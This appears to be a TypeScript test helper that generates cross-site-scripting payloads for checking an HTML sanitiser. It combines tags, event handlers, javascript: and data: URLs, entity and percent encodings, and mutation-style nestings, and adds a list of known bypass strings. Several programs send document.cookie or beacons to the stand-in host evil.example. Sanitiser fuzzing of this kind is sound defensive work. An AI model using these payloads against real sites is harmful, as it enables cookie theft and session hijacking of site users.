/** Hostile HTML from a grammar: a tag, its attributes, an address or a program in them, an encoding, what stands around. */

/** The same numbers for the same seed. */
const dice = (seed: number) => () => {
  seed = (seed + 0x6d2b79f5) | 0;
  let mixed = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
  return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
};

const evil = 'evil.example';

/** What a program would do: each leaves a mark that the test finds. */
const programs = [
  'alert(1)',
  'prompt(1)',
  'confirm`1`',
  'top.ran=1',
  "ran('x')",
  "eval('ran(1)')",
  "Function('ran(1)')()",
  `fetch('https://${evil}/stolen?'+document.cookie)`,
  `new Image().src='//${evil}/x'`,
  `location='https://${evil}/'`,
  `location.href='/login'`,
  "document.title='owned'",
  "document.body.innerHTML='<b id=owned>owned</b>'",
  "import('data:text/javascript,ran(1)')",
  "setTimeout('ran(1)')",
  `navigator.sendBeacon('//${evil}')`,
  `open('//${evil}')`,
];

const tags = [
  ...[
    'script',
    'img',
    'image',
    'svg',
    'math',
    'iframe',
    'object',
    'embed',
    'form',
    'input',
    'button',
    'select',
    'textarea',
  ],
  ...[
    'video',
    'audio',
    'source',
    'track',
    'link',
    'meta',
    'base',
    'style',
    'html',
    'head',
    'body',
    'title',
    'frame',
    'frameset',
  ],
  ...[
    'a',
    'area',
    'map',
    'table',
    'td',
    'th',
    'p',
    'h2',
    'li',
    'blockquote',
    'code',
    'strong',
    'div',
    'span',
    'font',
    'center',
  ],
  ...[
    'details',
    'summary',
    'dialog',
    'marquee',
    'bgsound',
    'isindex',
    'keygen',
    'applet',
    'layer',
    'noscript',
    'noembed',
  ],
  ...['noframes', 'template', 'slot', 'portal', 'fencedframe', 'xmp', 'listing', 'x-custom', 'animate', 'set', 'use'],
  ...[
    'foreignobject',
    'desc',
    'mtext',
    'mglyph',
    'malignmark',
    'annotation-xml',
    'maction',
    'picture',
    'canvas',
    'param',
  ],
  ...[
    'menu',
    'menuitem',
    'optgroup',
    'option',
    'label',
    'fieldset',
    'meter',
    'progress',
    'output',
    'ruby',
    'rt',
    'nobr',
  ],
];

const handlers = [
  ...[
    'onload',
    'onerror',
    'onclick',
    'onfocus',
    'onblur',
    'onmouseover',
    'onpointerenter',
    'ontoggle',
    'onbegin',
    'onend',
  ],
  ...[
    'onanimationstart',
    'ontransitionend',
    'onscroll',
    'onwheel',
    'onpageshow',
    'onhashchange',
    'onmessage',
    'oncopy',
  ],
  ...[
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
    'onsecuritypolicyviolation',
    'onstart',
    'onfinish',
    'oninvalid',
  ],
];
const addressed = [
  ...[
    'href',
    'src',
    'srcset',
    'srcdoc',
    'action',
    'formaction',
    'xlink:href',
    'data',
    'poster',
    'background',
    'ping',
    'cite',
  ],
  ...[
    'longdesc',
    'manifest',
    'codebase',
    'classid',
    'lowsrc',
    'dynsrc',
    'profile',
    'usemap',
    'from',
    'to',
    'values',
    'by',
  ],
];
const others = [
  ...['style', 'class', 'id', 'name', 'data-says', 'data-x', 'is', 'slot', 'part', 'target', 'rel', 'download', 'role'],
  ...[
    'aria-label',
    'contenteditable',
    'autofocus',
    'tabindex',
    'accesskey',
    'popover',
    'popovertarget',
    'form',
    'http-equiv',
  ],
  ...[
    'content',
    'nonce',
    'integrity',
    'crossorigin',
    'loading',
    'allow',
    'sandbox',
    'type',
    'lang',
    'dir',
    'title',
    'hidden',
  ],
  ...[
    'colspan',
    'width',
    'scope',
    'attributename',
    'shadowrootmode',
    'xmlns',
    'xml:base',
    'itemprop',
    'start',
    'value',
  ],
];
const attributes = [...handlers, ...addressed, ...others];

const addresses: ((program: string) => string)[] = [
  (program) => `javascript:${program}`,
  (program) => `JaVaScRiPt:${program}`,
  (program) => `java\tscript:${program}`,
  (program) => `java\nscript:${program}`,
  (program) => ` \u{1}javascript:${program}`,
  (program) => `javascript://%0a${program}`,
  (program) => `data:text/html,<script>${program}</script>`,
  (program) => `data:text/html;base64,${Buffer.from(`<script>${program}</script>`).toString('base64')}`,
  (program) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${program}"/>`,
  (program) => `data:text/javascript,${program}`,
  (program) => `vbscript:${program}`,
  (program) => `blob:https://${evil}/${program.length}`,
  () => `https://${evil}/a.js`,
  () => `//${evil}/a.css`,
  () => `\\\\${evil}\\a`,
  () => `/\\${evil}/a`,
  () => `https://rates.example@${evil}/`,
  () => `https://rates.example:443/`,
  () => 'https://rates.example/ok',
  () => '/exchanges',
  () => '/nowhere-at-all',
  () => '#owned',
  () => '?operation=owned',
  (program) => program,
];

const entity = (text: string, write: (code: number) => string) =>
  [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join('');
const encodings: Record<string, (text: string) => string> = {
  plain: (text) => text,
  decimal: (text) => entity(text, (code) => `&#${code};`),
  'decimal without an end': (text) => entity(text, (code) => `&#${String(code).padStart(7, '0')}`),
  hexadecimal: (text) => entity(text, (code) => `&#x${code.toString(16)};`),
  'hexadecimal in capitals': (text) => entity(text, (code) => `&#X000${code.toString(16).toUpperCase()};`),
  named: (text) =>
    text.replaceAll(':', '&colon;').replaceAll('(', '&lpar;').replaceAll('\t', '&Tab;').replaceAll('\n', '&NewLine;'),
  percent: (text) => encodeURIComponent(text),
  'percent twice': (text) => encodeURIComponent(encodeURIComponent(text)),
  'a control in front': (text) => `&#1;&#14;${text}`,
  'a nil inside': (text) => `${text.slice(0, 3)}\0${text.slice(3)}`,
  'broken into lines': (text) => text.replaceAll(/(.{5})/g, '$1&#10;'),
  'unicode escapes': (text) => entity(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
};

const quotings: ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value.replaceAll('"', '&quot;')}"`,
  (name, value) => ` ${name}='${value.replaceAll("'", '&#39;')}'`,
  (name, value) => ` ${name}=${value.replaceAll(/[\s"'>`]/g, '')}`,
  (name, value) => `/${name.toUpperCase()}="${value.replaceAll('"', '&quot;')}"`,
  (name, value) => `\n${name}\n=\n"${value.replaceAll('"', '&quot;')}"`,
  (name, value) => ` ${name}="" ${name}="${value.replaceAll('"', '&quot;')}"`,
  (name, value) => ` "${name}="${value.replaceAll('"', '&quot;')}"`,
];

/** Where the element stands: places in which a second reading would mean something else than the first. */
const nestings: Record<string, (inside: string) => string> = {
  alone: (inside) => inside,
  'in a paragraph': (inside) => `<p>${inside}</p>`,
  'in a link': (inside) => `<a href="/article">${inside}</a>`,
  'in a table': (inside) => `<table><tr>${inside}<td>x</table>`,
  'in a drawing': (inside) => `<svg>${inside}</svg>`,
  'in a described drawing': (inside) => `<svg><desc>${inside}</desc><style><!--</style>${inside}</svg>`,
  'in a foreign object': (inside) => `<svg><foreignobject>${inside}</foreignobject></svg>`,
  'in a formula': (inside) => `<math><mtext>${inside}</mtext></math>`,
  'in a formula with a table': (inside) => `<math><mtext><table><mglyph><style><!--</style>${inside}`,
  'in two forms': (inside) => `<form><math><mtext></form><form><mglyph><style></math>${inside}`,
  'in an annotation': (inside) =>
    `<math><annotation-xml encoding="text/html"><style>${inside}</style></annotation-xml></math>`,
  'in a template': (inside) => `<template>${inside}</template>`,
  'in a shadow': (inside) => `<div><template shadowrootmode=open>${inside}</template></div>`,
  'behind a style': (inside) => `<style></style${inside}`,
  'in an attribute': (inside) => `<p title="</p>${inside.replaceAll('"', "'")}">x</p>`,
  'in no script': (inside) => `<noscript><p title="</noscript>${inside.replaceAll('"', "'")}"></noscript>`,
  'in a text area': (inside) => `<textarea></textarea>${inside}<textarea>${inside}</textarea>`,
  'in a comment': (inside) => `<!--><p>${inside}--><!--!>${inside}<!---->`,
  'in a processing instruction': (inside) => `<?xml version="1.0"?${inside}?>`,
  'in character data': (inside) => `<svg><![CDATA[${inside}]]></svg><![CDATA[>${inside}]]>`,
  'in a select': (inside) => `<select><option>${inside}</select>`,
  'in a title': (inside) => `<svg><title><style>${inside}</style></title></svg>`,
  'inside itself': (inside) => inside.replace(/^<(\w{2})/, `<$1${inside}`),
  'a hundred deep': (inside) => `${'<blockquote>'.repeat(100)}${inside}`,
  'six hundred deep': (inside) => `${'<strong><em>'.repeat(300)}${inside}`,
  unended: (inside) => `<p ${inside}`,
};

export interface Payload {
  html: string;
  tag: string;
  attribute: string;
  encoding: string;
  nesting: string;
}

/** Some that are known by name: each once got through some sanitiser. */
const known = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><a title="</style><img src onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD14IG9ubG9hZD1hbGVydCgxKSAvPg#x"></use></svg>',
  '<svg/onload=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)</script',
  '<script src=//evil.example/a.js></script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<link rel=stylesheet href=//evil.example/a.css><link rel=prefetch href=//evil.example/p><link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example"><meta http-equiv=Content-Security-Policy content="script-src *">',
  '<base href=//evil.example/><a href=x>x</a>',
  '<style>@import "//evil.example/a.css";*{background:url(//evil.example/b)}</style>',
  '<p style="background:url(//evil.example/c);position:fixed;inset:0;z-index:9999">x</p>',
  '<form action=//evil.example><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><video poster=//evil.example/v src=//evil.example/v></video>',
  '<img srcset="//evil.example/1 1x, //evil.example/2 2x"><picture><source srcset=//evil.example/3><img></picture>',
  '<table background=//evil.example/t><td background=//evil.example/t>x</table>',
  '<a href="/article" ping="//evil.example/ping">x</a>',
  '<img name=body><img id=getElementById name=cookie><form id=documentElement><input id=attributes></form>',
  '<a id=app></a><div id=main data-says="user.navigated">x</div><p class="header" id="wallets" popover>x</p>',
  '<h1>One</h1><h1>More</h1><h6>deep</h6><h2></h2><a href="/article"></a>',
  '<plaintext><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp><listing>&lt;img src onerror=alert(1)&gt;</listing>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<x-custom onclick=alert(1) is=x>x</x-custom><p is="x-custom">x</p>',
  '<a href="https://rates.example/ok" target=_self rel=opener onclick=alert(1)>x</a>',
  '<a target=_blank href="https://evil.example">x</a><a href="//evil.example">x</a><area href=//evil.example>',
  '<th scope="javascript:alert(1)">x</th><table><th scope=row abbr=x headers=y colspan=99999>x</table>',
];

/**
 * `count` payloads: the known ones, and others from the grammar, so drawn that every tag, attribute, encoding and nesting
 * is in some of them.
 */
export const makePayloads = (count: number, seed: number): Payload[] => {
  const next = dice(seed);
  const pick = <T>(some: readonly T[]): T => some[Math.floor(next() * some.length)]!;
  const [kinds, places] = [Object.keys(encodings), Object.keys(nestings)];
  const made = known.map((html): Payload => ({ html, tag: 'known', attribute: '', encoding: '', nesting: '' }));
  const seen = new Set(known);
  for (let turn = 0; made.length < count; turn += 1) {
    const tag = tags[turn % tags.length]!;
    const attribute = attributes[turn % attributes.length]!;
    const encoding = kinds[turn % kinds.length]!;
    const nesting = places[turn % places.length]!;
    const valueOf = (name: string) => {
      const program = pick(programs);
      return handlers.includes(name) ? program : pick(addresses)(program);
    };
    const write = (name: string) =>
      pick(quotings)(name, encodings[name === attribute ? encoding : pick(kinds)]!(valueOf(name)));
    const element = `<${tag}${write(attribute)}${write(pick(handlers))}${write(pick(addressed))}>${pick(['', pick(programs), `</${tag}>`])}`;
    const html = nestings[nesting]!(element);
    if (seen.has(html)) continue;
    seen.add(html);
    made.push({ html, tag, attribute, encoding, nesting });
  }
  return made;
};

export const grammar = { tags, attributes, encodings: Object.keys(encodings), nestings: Object.keys(nestings) };
